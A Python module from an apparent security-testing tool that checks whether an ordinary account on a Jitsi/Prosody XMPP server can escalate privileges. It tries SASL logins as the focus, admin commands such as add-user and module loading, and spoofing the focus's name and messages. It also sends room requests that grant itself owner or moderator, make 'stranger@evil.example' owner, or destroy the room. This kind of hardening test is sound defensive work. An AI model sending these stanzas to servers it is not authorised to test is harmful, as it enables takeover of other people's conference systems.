"""Attempts of an ordinary participant, with an account that is on no list, to get more rights."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING
from xml.sax.saxutils import quoteattr

from hardener.proof.attack import verdict
from hardener.proof.attack.record import Judgement, Target, Verdict, refused, succeeded, unclear
from hardener.proof.attack.session import Scene, Way
from hardener.proof.attack.unauthenticated import register_query
from hardener.proof.xmpp import sasl, stanzas
from hardener.proof.xmpp.muc import MUC, codes, moderates, own_presence, presence
from hardener.proof.xmpp.stanzas import DISCO_ITEMS

if TYPE_CHECKING:
    from collections.abc import Iterator
    from xml.etree.ElementTree import Element

    from hardener.proof.xmpp.client import Client

_FOCUS = "http://jitsi.org/protocol/focus"
_COMMANDS = "http://jabber.org/protocol/commands"
_COMPONENTS = ("", "internal-muc", "internal.auth", "lobby", "breakout", "conference", "muc")
_NICK = "mallory"


def ways(target: Target) -> Iterator[Way]:
    """Yield all of them; each needs an account."""

    def way(area: str, name: str, run: partial[Judgement] | object, needs: str = "account") -> Way:
        return Way(area, name, run, needs=needs)  # type: ignore[arg-type]

    for mechanism in ("PLAIN", "SCRAM-SHA-1"):
        yield way("logins", f"{mechanism}, own password, name of focus", partial(_other_name, mechanism=mechanism))
    yield way("registration", "register after login", _register)
    for prefix in dict.fromkeys(_COMPONENTS):
        host = target.host(prefix) if prefix else target.muc
        if prefix and host == target.muc:
            continue
        yield way("rooms", f"make a room on {host}", partial(_create, host=host))
    yield way("rooms", "list the rooms", _list_rooms)
    yield way("rooms", "enter the bridges' room", _brewery)
    for number, name in enumerate(("add an account", "list the sessions", "load a module")):
        yield way("administration", name, partial(_command, number=number))
    yield way("focus", "sit down as focus before it comes", _focus_first)
    yield way("focus", "take the focus's name in a room", _focus_name)
    yield way("focus", "change the own name to focus", _focus_rename)
    yield way("focus", "speak in the name of focus", _forged_sender)
    yield way("focus", "answer for focus", _forged_answer)
    yield way("focus", "get the requests that are for focus", _focus_proxy)
    for name in ("first one in", "first one in, asking for it"):
        yield way("roles", name, partial(first_in, asking="asking" in name), "named-hosts")
    for name in _grants("", "", ""):
        yield way("roles", name, partial(_self_grant, name=name), "named-hosts")


# --- names and accounts


def _other_name(scene: Scene, mechanism: str) -> Judgement:
    """Log in with the own password, asking to be another person (RFC 4422's authorization identity)."""
    account, focus = scene.account, f"focus@{scene.target.host('auth')}"
    if account.token:
        return refused("a token names one person: there is no password to log in with")
    guest = scene.guest()
    if mechanism == "PLAIN":
        end = guest.exchange(mechanism, sasl.plain(account.user, account.password, focus))
    else:
        client = sasl.Scram(account.user, account.password, mechanism, focus)
        end = guest.exchange(mechanism, client.first(), client.final)
    judged = verdict.of_sasl(end)
    if judged.verdict != Verdict.SUCCEEDED:
        return judged
    guest.features = guest.stream.open(scene.target.domain)
    jid = guest.bind(scene.mark)
    if jid.partition("/")[0] == focus:
        return succeeded(f"logged in as {jid}")
    return refused(f"the login stays that of the own account: {jid}")


def _register(scene: Scene) -> Judgement:
    client = scene.client()
    judged = verdict.of_stanza(client.iq("set", "", register_query(scene.mark)))
    if judged.verdict == Verdict.SUCCEEDED:
        return succeeded(f"an account attack-{scene.mark} has been made: remove it by hand")
    return judged


# --- rooms


def _verdict_on_join(element: Element | None) -> Judgement:
    if element is None:
        return refused("the room does not answer and admits no participant")
    if element.get("type") == "error":
        return verdict.of_stanza(element)
    return succeeded("in the room" + (", as its moderator" if moderates(element) else ""))


def _create(scene: Scene, host: str) -> Judgement:
    """Open a room without the focus, to own it as its creator."""
    return _verdict_on_join(scene.client().join(f"attack-{scene.mark}@{host}", _NICK))


def _enter(scene: Scene, client: Client) -> Element:
    """Enter a conference as each client does; ValueError where that fails (then nothing can be said about roles)."""
    kind = scene.conference(client)
    element = client.join(scene.room, _NICK)
    if element is None or element.get("type") == "error":
        why = "keeps silent" if element is None else f"says {stanzas.condition(element)}"
        raise ValueError(f"the focus answers with {kind or 'nothing'}, the room {why}: an ordinary join fails")
    scene.more_time()
    return element


def _list_rooms(scene: Scene) -> Judgement:
    """Try to list the rooms while there is at least one, our own."""
    client = scene.client()
    _enter(scene, client)
    answer = client.iq("get", scene.target.muc, f"<query xmlns='{DISCO_ITEMS}'/>")
    if answer.get("type") == "error":
        return verdict.of_stanza(answer)
    rooms = answer.findall(f"{{{DISCO_ITEMS}}}query/{{{DISCO_ITEMS}}}item")
    return succeeded(f"{len(rooms)} rooms are listed") if rooms else refused("the list is empty")


def _brewery(scene: Scene) -> Judgement:
    """Enter the room in which bridges report to the focus."""
    client = scene.client()
    for host in ("internal-muc", "internal.auth"):
        for room in ("jvbbrewery", "jibribrewery", "jigasibrewery"):
            judged = _verdict_on_join(client.join(f"{room}@{scene.target.host(host)}", _NICK))
            if judged.verdict != Verdict.REFUSED:
                return Judgement(judged.verdict, f"{room} on {host}: {judged.why}")
    return refused(judged.why)


def _command(scene: Scene, number: int) -> Judgement:
    """Try Prosody's administration by XEP-0133 and XEP-0050."""
    admin = "http://jabber.org/protocol/admin#"
    node = (f"{admin}add-user", f"{admin}get-online-users-list", "http://prosody.im/protocol/modules#load")[number]
    command = f"<command xmlns='{_COMMANDS}' node='{node}' action='execute'/>"
    return verdict.of_stanza(scene.client().iq("set", scene.target.domain, command))


# --- focus


def _focus_first(scene: Scene) -> Judgement:
    return _verdict_on_join(scene.client().join(scene.room, "focus"))


def _focus_name(scene: Scene) -> Judgement:
    witness, client = scene.client(), scene.client()
    _enter(scene, witness)
    return _verdict_on_join(client.join(scene.room, "focus"))


def _focus_rename(scene: Scene) -> Judgement:
    client = scene.client()
    _enter(scene, client)
    client.stream.send(presence(f"{scene.room}/focus"))
    heard = client.until_ping()
    for element in heard:
        if element.get("from") == f"{scene.room}/focus" and element.get("type") == "error":
            return verdict.of_stanza(element)
        # 303 is "this one has another name from now on" (XEP-0045, section 7.6)
        if "303" in codes(element):
            return succeeded("is called focus from now on")
    error = own_presence(heard, scene.room, _NICK)
    return verdict.of_stanza(error) if error is not None and error.get("type") else refused("nothing changes")


def _forged(scene: Scene, stanza: str) -> Judgement:
    """Send a person a stanza with a sender that is not one's own; what counts is the sender that arrives."""
    witness, client = scene.client(), scene.client()
    witness.stream.send("<presence xmlns='jabber:client'/>")
    witness.until_ping()
    focus = f"{scene.room}/focus"
    client.stream.send(stanza.format(focus=quoteattr(focus), to=quoteattr(witness.jid), mark=scene.mark))
    client.until_ping()
    for element in witness.until_ping():
        if element.get("id") == scene.mark:
            sender = element.get("from", "")
            return succeeded("arrives as said by focus") if sender == focus else refused(f"arrives from {sender}")
    return refused("does not arrive")


def _forged_sender(scene: Scene) -> Judgement:
    body = "<body>I am the focus</body>"
    return _forged(scene, f"<message xmlns='jabber:client' from={{focus}} to={{to}} id='{{mark}}'>{body}</message>")


def _forged_answer(scene: Scene) -> Judgement:
    ready = "<conference xmlns='http://jitsi.org/protocol/focus' ready='true' focusjid='mallory@evil.example'/>"
    return _forged(
        scene, f"<iq xmlns='jabber:client' type='result' from={{focus}} to={{to}} id='{{mark}}'>{ready}</iq>"
    )


def _focus_proxy(scene: Scene) -> Judgement:
    """Announce an address to the proxy in front of the focus, which must forward requests only to the focus."""
    witness, client = scene.client(), scene.client()
    focus = scene.target.host("focus")
    client.stream.send(presence(focus))
    client.stream.send("<presence xmlns='jabber:client'/>")
    client.until_ping()
    request = f"<conference xmlns='{_FOCUS}' room={quoteattr(scene.room)} machine-uid='{scene.mark}'/>"
    name = witness.ask("set", focus, request)
    witness.answer(name)
    asked = (
        conference for element in client.until_ping() for conference in element.iterfind(f"{{{_FOCUS}}}conference")
    )
    if any(scene.room in (conference.get("room") or "") for conference in asked):
        return succeeded("another person's request for a conference arrives here")
    return refused("the request goes past us")


# --- roles


def first_in(scene: Scene, *, asking: bool = False) -> Judgement:
    """Enter a new room as the first participant, and wait for a promotion, which may come late."""
    client = scene.client()
    scene.conference(client)
    item = f"<x xmlns='{MUC}#user'><item affiliation='owner' role='moderator'/></x>" if asking else ""
    element = client.join(scene.room, _NICK, item)
    if element is None or element.get("type") == "error":
        return _verdict_on_join(element)
    later = own_presence(client.listen(scene.target.listen), scene.room, _NICK)
    if moderates(element) or moderates(later):
        return succeeded("the first one in is moderator")
    return refused("the first one in stays an ordinary participant")


def _grants(jid: str, room: str, nick: str) -> dict[str, str]:
    """Return requests to a room that an ordinary participant must not make, by name."""
    item = f"<query xmlns='{MUC}#admin'><item {{}}/></query>"
    return {
        "grant oneself owner": item.format(f"affiliation='owner' jid={quoteattr(jid)}"),
        "grant oneself admin": item.format(f"affiliation='admin' jid={quoteattr(jid)}"),
        "grant oneself moderator": item.format(f"role='moderator' nick={quoteattr(nick)}"),
        "grant a stranger owner": item.format("affiliation='owner' jid='stranger@evil.example'"),
        "close the conference": f"<query xmlns='{MUC}#owner'><destroy jid={quoteattr(room)}/></query>",
        "make the room members-only": (
            f"<query xmlns='{MUC}#owner'><x xmlns='jabber:x:data' type='submit'><field var='FORM_TYPE'>"
            f"<value>{MUC}#roomconfig</value></field><field var='muc#roomconfig_membersonly'><value>1</value></field>"
            "</x></query>"
        ),
    }


def _self_grant(scene: Scene, name: str) -> Judgement:
    client = scene.client()
    element = _enter(scene, client)
    later = own_presence(client.listen(scene.target.listen), scene.room, _NICK)
    if moderates(element) or moderates(later):
        return unclear("this account is a moderator already, so nothing can be said: use one that is on no list")
    payload = _grants(client.jid.partition("/")[0], scene.room, _NICK)[name]
    judged = verdict.of_stanza(client.iq("set", scene.room, payload))
    changed = own_presence(client.listen(scene.target.listen), scene.room, _NICK)
    return succeeded("is a moderator now") if moderates(changed) else judged
